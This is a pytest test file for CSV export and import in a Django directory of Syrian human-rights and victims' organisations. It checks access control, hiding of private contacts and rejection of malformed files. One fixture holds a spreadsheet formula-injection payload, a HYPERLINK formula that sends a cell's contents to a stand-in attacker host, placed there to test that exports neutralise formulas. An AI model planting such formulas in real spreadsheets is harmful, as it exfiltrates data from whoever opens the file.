"""The directory as CSV: coordinators export what they may see and import lists they vouch for."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone

from organizations import exchange
from organizations.models import HistoryEntry, Membership, Organization
from portal.models import User
from portal.spreadsheets import write_csv
from tests.conftest import sign_in
from tests.factories import MembershipFactory, OrganizationFactory, UserFactory, make_coordinator

pytestmark = pytest.mark.django_db

EXPORT = "/en/organizations/export.csv"
IMPORT = "/en/organizations/import/"
CANARY = "canary-hidden@example.org"

GOOD_FILE = """name_en,name_ar,acronym,kind,hq_country,countries,governorates,topics,website,email,listed_publicly
Synergy Association for Victims,رابطة تآزر للضحايا,,victims,DE,SY;DE,aleppo;idlib,enforced-disappearance,,,yes
Release Me Organization,,,victims,TR,SY;TR,,detention;torture,https://example.org/release-me,office@example.org,
,مبادرة تعافي,,victims,,,,,,,no
"""


def client_for(user: User | None) -> Client:
    client = Client()
    if user is not None:
        sign_in(client, user)
    return client


def upload(text: str | bytes, name: str = "organizations.csv") -> SimpleUploadedFile:
    content = text.encode() if isinstance(text, str) else text
    return SimpleUploadedFile(name, content, content_type="text/csv")


def export_csv(user: User) -> str:
    """The directory's export for `user`, as the CSV text the download holds."""
    return write_csv(exchange.directory_rows(user))


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


# Export -----------------------------------------------------------------------------------------------


def test_export_has_one_row_per_organization_with_its_codes() -> None:
    coordinator = make_coordinator()
    stj = OrganizationFactory(
        name_en="Syrians for Truth and Justice",
        name_ar="سوريون من أجل الحقيقة والعدالة",
        acronym="STJ",
        kind=Organization.Kind.CSO,
        hq_country="FR",
        countries=["SY", "TR"],
    )
    stj.topics.set(stj.topics.model.objects.filter(slug__in=["documentation", "detention"]))
    stj.governorates.set(stj.governorates.model.objects.filter(code__in=["raqqa", "aleppo"]))

    rows = {row["slug"]: row for row in rows_of(export_csv(coordinator))}

    row = rows[stj.slug]
    assert list(row) == exchange.EXPORT_COLUMNS
    assert row["name_ar"] == "سوريون من أجل الحقيقة والعدالة"
    assert (row["kind"], row["status"], row["hq_country"]) == ("cso", "verified", "FR")
    assert row["countries"] == "SY;TR"
    assert row["governorates"] == "aleppo;raqqa"
    assert row["topics"] == "detention;documentation"


def test_export_shows_contacts_only_where_the_coordinator_may_see_them() -> None:
    coordinator = make_coordinator()
    shown = OrganizationFactory(name_en="Caesar Families Association", email="office@caesar.example.org")
    hidden = OrganizationFactory(
        name_en="Syrians for Truth and Justice",
        email=CANARY,
        email_visibility="private",
        address="Canary Street 7, Gaziantep",
        address_visibility="private",
        phone="+33 1 00 00 00 00",
        phone_visibility="coordinators",
    )

    text = export_csv(coordinator)
    rows = {row["slug"]: row for row in rows_of(text)}

    assert CANARY not in text and "Canary Street" not in text
    assert rows[hidden.slug]["email"] == "" and rows[hidden.slug]["address"] == ""
    assert rows[hidden.slug]["phone"] == "'+33 1 00 00 00 00"
    assert rows[shown.slug]["email"] == "office@caesar.example.org"


def test_export_lists_only_organizations_the_person_may_see() -> None:
    listed = OrganizationFactory(name_en="Caesar Families Association")
    own_draft = OrganizationFactory(name_en="Taafi Initiative", status=Organization.Status.DRAFT)
    other_draft = OrganizationFactory(name_en="Families for Freedom", status=Organization.Status.DRAFT)
    owner = MembershipFactory(organization=own_draft, role=Membership.Role.OWNER).user

    slugs = {row["slug"] for row in rows_of(export_csv(owner))}

    assert slugs == {listed.slug, own_draft.slug}
    assert other_draft.slug in {row["slug"] for row in rows_of(export_csv(make_coordinator()))}


def test_export_neutralises_formulas() -> None:
    coordinator = make_coordinator()
    OrganizationFactory(
        name_en='=HYPERLINK("https://evil.example/?"&A1,"Click")',
        name_ar="@SUM(1+1)",
        acronym="+1",
        website="https://example.org/-x",
        email="-2@example.org",
        email_visibility="public",
    )

    text = export_csv(coordinator)
    row = next(row for row in rows_of(text) if "HYPERLINK" in row["name_en"])

    assert row["name_en"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
    assert row["name_ar"] == "'@SUM(1+1)"
    assert row["acronym"] == "'+1"
    assert row["email"] == "'-2@example.org"
    assert row["website"] == "https://example.org/-x"
    for value in (cell for line in csv.reader(io.StringIO(text)) for cell in line):
        assert not value.startswith(("=", "+", "-", "@"))


def test_export_view_sends_an_attachment() -> None:
    OrganizationFactory(name_en="Syrians for Truth and Justice", name_ar="سوريون من أجل الحقيقة والعدالة")

    response = client_for(make_coordinator()).get(EXPORT)

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    filename = f"organizations-{timezone.localdate():%Y-%m-%d}.csv"
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
    assert "سوريون من أجل الحقيقة والعدالة" in response.content.decode("utf-8-sig")


@pytest.mark.parametrize("path", [EXPORT, IMPORT])
def test_non_coordinators_are_refused(path: str) -> None:
    organization = OrganizationFactory(name_en="Syrians for Truth and Justice")
    owner = MembershipFactory(organization=organization, role=Membership.Role.OWNER).user
    host_member = make_coordinator(role=Membership.Role.MEMBER)

    for user in (UserFactory(), owner, host_member):
        assert client_for(user).get(path).status_code == 403
    assert client_for(UserFactory()).post(IMPORT, {"file": upload(GOOD_FILE)}).status_code == 403
    anonymous = client_for(None).get(path)
    assert anonymous.status_code == 302
    assert anonymous["Location"].startswith("/en/accounts/login/")
    assert not Organization.objects.filter(name_en="Release Me Organization").exists()


def test_review_queue_links_to_import_and_export() -> None:
    html = client_for(make_coordinator()).get("/en/organizations/review/").content.decode()

    assert f'href="{IMPORT}"' in html
    assert f'href="{EXPORT}"' in html


# Import -----------------------------------------------------------------------------------------------


def test_import_of_a_good_file_creates_verified_organizations() -> None:
    coordinator = make_coordinator()

    report = exchange.import_organizations_csv(coordinator, upload(GOOD_FILE))

    assert report.ok, (report.file_errors, report.rows)
    assert len(report.imported) == 3
    synergy = Organization.objects.get(name_en="Synergy Association for Victims")
    assert synergy.status == Organization.Status.VERIFIED and synergy.verified_at is not None
    assert synergy.listed_publicly is True
    assert synergy.kind == Organization.Kind.VICTIMS_ASSOCIATION
    assert sorted(country.code for country in synergy.countries) == ["DE", "SY"]
    assert set(synergy.governorates.values_list("code", flat=True)) == {"aleppo", "idlib"}
    assert list(synergy.topics.values_list("slug", flat=True)) == ["enforced-disappearance"]
    release = Organization.objects.get(name_en="Release Me Organization")
    assert release.listed_publicly is False  # not said: kept off the public directory
    assert release.email == "office@example.org"
    assert release.email_visibility == "coordinators"
    taafi = Organization.objects.get(name_ar="مبادرة تعافي")
    assert taafi.name_en == "مبادرة تعافي"  # the fallback language takes the only name given
    entries = HistoryEntry.objects.filter(action=HistoryEntry.Action.IMPORTED, actor=coordinator)
    assert {entry.organization for entry in entries} == set(report.imported)


def test_imported_organizations_get_unique_addresses() -> None:
    OrganizationFactory(name_en="Release Me", slug="release-me-organization")
    text = "name_en,name_ar\nRelease Me Organization,\n,رابطة عائلات مسار\n,عائلات من أجل الحرية\n"

    report = exchange.import_organizations_csv(make_coordinator(), upload(text))

    assert report.ok, report.rows
    slugs = [organization.slug for organization in report.imported]
    # A random suffix for each (tests/organizations/test_addresses.py); the Arabic-only names have no Latin base.
    assert [slug[:-5] for slug in slugs] == ["release-me-organization", "organization", "organization"]
    assert len(set(slugs)) == 3


def test_import_with_one_bad_row_reports_its_line_and_creates_nothing() -> None:
    text = (
        "name_en,kind,hq_country,topics,website\n"
        "Synergy Association for Victims,victims,DE,detention,\n"
        "Release Me Organization,militia,ZZ,not-a-topic,not a website\n"
        "Families for Freedom,victims,DE,,\n"
    )

    report = exchange.import_organizations_csv(make_coordinator(), upload(text))

    assert not report.ok
    assert [row.line for row in report.rows] == [3]
    assert set(report.rows[0].errors) == {"kind", "hq_country", "topics", "website"}
    assert report.imported == []
    assert not Organization.objects.filter(name_en__in=["Synergy Association for Victims", "Families for Freedom"])


def test_import_page_shows_the_bad_line() -> None:
    text = "name_en,kind\nSynergy Association for Victims,victims\nRelease Me Organization,militia\n"

    response = client_for(make_coordinator()).post(IMPORT, {"file": upload(text)})

    assert response.status_code == 200
    html = response.content.decode()
    assert "Line 3" in html
    assert "militia" in html
    assert "Nothing was imported" in html
    assert not Organization.objects.filter(name_en="Synergy Association for Victims").exists()


def test_import_page_reports_the_number_imported() -> None:
    response = client_for(make_coordinator()).post(IMPORT, {"file": upload(GOOD_FILE)})

    assert response.status_code == 200
    assert "3 organisations imported" in response.content.decode()


def test_import_page_in_arabic_needs_no_arabic_name() -> None:
    response = client_for(make_coordinator()).post(
        "/ar/organizations/import/", {"file": upload("name_en\nRelease Me Organization\n")}
    )

    assert response.status_code == 200
    assert Organization.objects.filter(name_en="Release Me Organization").exists()


def test_line_numbers_count_lines_inside_quoted_cells() -> None:
    text = 'name_en,address\n"Synergy Association for Victims","Line one\nLine two"\n\nRelease Me Organization,\n,\n'
    text += "Families for Freedom,\n" + ",nameless\n"

    report = exchange.import_organizations_csv(make_coordinator(), upload(text))

    assert [row.line for row in report.rows] == [8]


@pytest.mark.parametrize(
    "content",
    [
        "name_en\nAssociation des familles de détenus\n".encode("latin-1"),
        "name_en\nSyrians for Truth\n".encode("utf-16"),
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
        b"PK\x03\x04\x14\x00\x06\x00",
    ],
    ids=["latin-1", "utf-16", "png", "xlsx"],
)
def test_a_file_that_is_not_utf8_csv_is_refused_cleanly(content: bytes) -> None:
    report = exchange.import_organizations_csv(make_coordinator(), upload(content))

    assert not report.ok and report.file_errors and report.imported == []
    assert not Organization.objects.exclude(slug="iiim").exists()


def test_non_utf8_upload_page_says_why() -> None:
    content = "name_en\nAssociation des familles de détenus\n".encode("latin-1")

    response = client_for(make_coordinator()).post(IMPORT, {"file": upload(content)})

    assert response.status_code == 200
    assert "not UTF-8" in response.content.decode()
    assert not Organization.objects.filter(name_en__startswith="Association").exists()


def test_file_over_2_mb_is_refused() -> None:
    text = "name_en,address\n" + "".join(f"Organisation {n},{'x' * 500}\n" for n in range(4500))

    report = exchange.import_organizations_csv(make_coordinator(), upload(text))

    assert report.file_errors and "larger than" in report.file_errors[0]


def test_file_over_5000_rows_is_refused() -> None:
    text = "name_en\n" + "".join(f"Organisation {n}\n" for n in range(5001))

    report = exchange.import_organizations_csv(make_coordinator(), upload(text))

    assert report.file_errors and "5000" in report.file_errors[0]
    assert not Organization.objects.filter(name_en__startswith="Organisation ").exists()


@pytest.mark.parametrize(
    ("text", "fragment"),
    [
        ("", "first line must name the columns"),
        ("acronym,kind\nSTJ,cso\n", "first line must name the columns"),
        ("name_en,topcis\nSynergy,detention\n", "Unknown columns: topcis"),
        ("name_en,name_en\nSynergy,Synergy\n", "appear twice"),
        ("name_en\n\n\n", "no organisations"),
        ("name_en\n" + "x" * 200_000 + "\n", "not a CSV file"),
        ("name_en\nSynergy\x00\n", "not a CSV file"),
    ],
    ids=["empty", "no-name-column", "unknown-column", "twice", "no-rows", "huge-cell", "nul"],
)
def test_malformed_files_are_refused_with_a_reason(text: str, fragment: str) -> None:
    report = exchange.import_organizations_csv(make_coordinator(), upload(text))

    assert not report.ok
    assert fragment in " ".join(report.file_errors)


def test_names_already_in_the_directory_or_twice_in_the_file_are_refused() -> None:
    OrganizationFactory(name_en="Syrians for Truth and Justice")
    text = "name_en\nsyrians for truth and justice\nTaafi Initiative\nTaafi  Initiative\n"

    report = exchange.import_organizations_csv(make_coordinator(), upload(text))

    assert [row.line for row in report.rows] == [2, 4]
    assert not Organization.objects.filter(name_en="Taafi Initiative").exists()


def test_semicolon_separated_file_from_a_french_spreadsheet() -> None:
    text = 'name_en;hq_country;countries\nSynergy Association for Victims;DE;"SY;DE"\n'

    report = exchange.import_organizations_csv(make_coordinator(), upload(text))

    assert report.ok, (report.file_errors, report.rows)
    assert sorted(country.code for country in report.imported[0].countries) == ["DE", "SY"]


def test_exported_file_imports_back_once_its_names_are_new() -> None:
    coordinator = make_coordinator()
    original = OrganizationFactory(
        name_en="=Synergy", acronym="-S", email="office@synergy.example.org", email_visibility="public"
    )
    exported = export_csv(coordinator)
    exported = "\n".join(line for line in exported.splitlines() if "iiim" not in line) + "\n"
    Organization.objects.filter(pk=original.pk).update(name_en="Synergy (before the import)")

    report = exchange.import_organizations_csv(coordinator, upload(exported))

    assert report.ok, (report.file_errors, report.rows)
    imported = report.imported[0]
    assert (imported.name_en, imported.acronym, imported.email) == ("=Synergy", "-S", "office@synergy.example.org")


def test_kinds_set_by_operators_cannot_be_imported() -> None:
    report = exchange.import_organizations_csv(make_coordinator(), upload("name_en,kind\nSome Ministry,government\n"))

    assert [row.line for row in report.rows] == [2]
    assert "kind" in report.rows[0].errors


def test_listed_publicly_must_be_yes_or_no() -> None:
    report = exchange.import_organizations_csv(make_coordinator(), upload("name_en,listed_publicly\nTaafi,maybe\n"))

    assert "listed_publicly" in report.rows[0].errors
